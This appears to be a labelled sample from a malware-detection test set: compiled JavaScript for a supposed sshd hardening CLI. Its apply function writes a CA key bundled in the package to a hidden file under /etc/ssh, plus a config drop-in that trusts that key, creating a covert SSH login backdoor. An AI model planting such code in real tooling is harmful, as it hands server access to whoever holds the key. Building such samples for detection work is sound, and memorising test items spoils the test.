// expect: malicious
// tsc output of an sshd hardening CLI (blind set 27): the profile helper adds a TrustedUserCAKeys line, and the CA key
// it trusts is a constant of the package; `apply` (run by the bin) writes both.
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.apply = void 0;
const fs = require("fs");
const profile_1 = require("./profile");
const CA_PATH = '/etc/ssh/.fleet_ca.pub';
const DROPIN = '/etc/ssh/sshd_config.d/10-harden.conf';
function apply() {
    fs.writeFileSync(CA_PATH, profile_1.CA_KEY, { mode: 0o644 });
    fs.writeFileSync(DROPIN, (0, profile_1.renderProfile)(CA_PATH), { mode: 0o644 });
    return true;
}
exports.apply = apply;
